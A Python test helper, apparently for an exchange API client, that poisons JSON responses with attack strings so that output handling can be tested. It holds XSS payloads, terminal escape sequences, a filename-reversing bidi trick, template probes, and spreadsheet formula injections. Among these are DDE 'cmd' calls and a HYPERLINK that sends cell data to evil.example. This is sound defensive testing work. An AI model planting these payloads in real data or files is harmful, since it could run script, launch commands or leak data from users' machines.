"""A hostile exchange: answers of the right shape, whose names, ids, notes and errors attack whoever shows them.

Of the attacks each name gets the same one every time, so that what belongs together still does.
"""

from __future__ import annotations

import zlib
from collections.abc import Mapping
from decimal import Decimal
from typing import Any, Final

import msgspec

#: Markup, addresses that are code, text that turns around, terminals' orders, formulas of spreadsheets.
ATTACKS: Final = (
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.domain)//",
    "\u202eexe.gpj\u2066\u200f",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m",
    '=HYPERLINK("https://evil.example/?"&A1,"help")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'\"><svg/onload=alert(1)>",
    "{{7*7}}${7*7}[/bold]",
)

#: What an asset of each exchange is called instead: still a name that can be printed, and no longer than names are.
ASSETS: Final[Mapping[str, str]] = {
    "DOT": "<img src=x onerror=alert(1)>",
    "LINK": '=HYPERLINK("https://evil.example","LINK")',
    "LTC": "[/bold]{{7*7}}'\"><svg/onload=alert(1)>",
}

#: Members, of whichever exchange, that hold words or names of its own choice and no amount, time or cursor.
_WORDS: Final = frozenset(
    (
        *("memo", "note", "info", "description", "title", "subtitle", "label", "key", "tag", "addressTag", "name"),
        *("address", "txid", "txId", "hash", "refid", "order_id", "ordertxid", "clientOrderId", "client_order_id"),
        *("aclass", "message", "msg", "error_details", "statusMessage"),
    )
)
#: Members that hold objects by ids of the exchange's own.
_BY_ID: Final = frozenset(("trades", "open", "closed", "ledger"))
#: A list of texts that say what went wrong.
_ERRORS: Final = frozenset(("error",))


def poisoned(body: bytes, length: int) -> bytes:
    """A JSON answer with every such text an attack, and one of them so long; anything else unchanged."""
    try:
        value = msgspec.json.Decoder(float_hook=Decimal).decode(body)
    except msgspec.DecodeError:
        return body
    return msgspec.json.Encoder(decimal_format="number").encode(_Poison(length).into(value))


class _Poison:
    def __init__(self, length: int) -> None:
        self._length = length

    def into(self, value: Any, name: str = "") -> Any:
        """The same value under another's pen."""
        if isinstance(value, dict):
            return {self._key(key, name): self.into(each, key) for key, each in value.items()}
        if isinstance(value, list):
            return [
                self._text(each) if name in _ERRORS and isinstance(each, str) else self.into(each) for each in value
            ]
        if not isinstance(value, str) or not value:
            return value
        return self._text(value) if name in _WORDS else ASSETS.get(value, value)

    def _key(self, key: str, within: str) -> str:
        return self._text(key) if within in _BY_ID else ASSETS.get(key, key)

    def _text(self, value: str) -> str:
        """An attack, and behind it what was there: different things stay different."""
        attack = ATTACKS[zlib.crc32(value.encode()) % len(ATTACKS)]
        long, self._length = "A" * self._length, 0
        return f"{attack} {value}{long}"
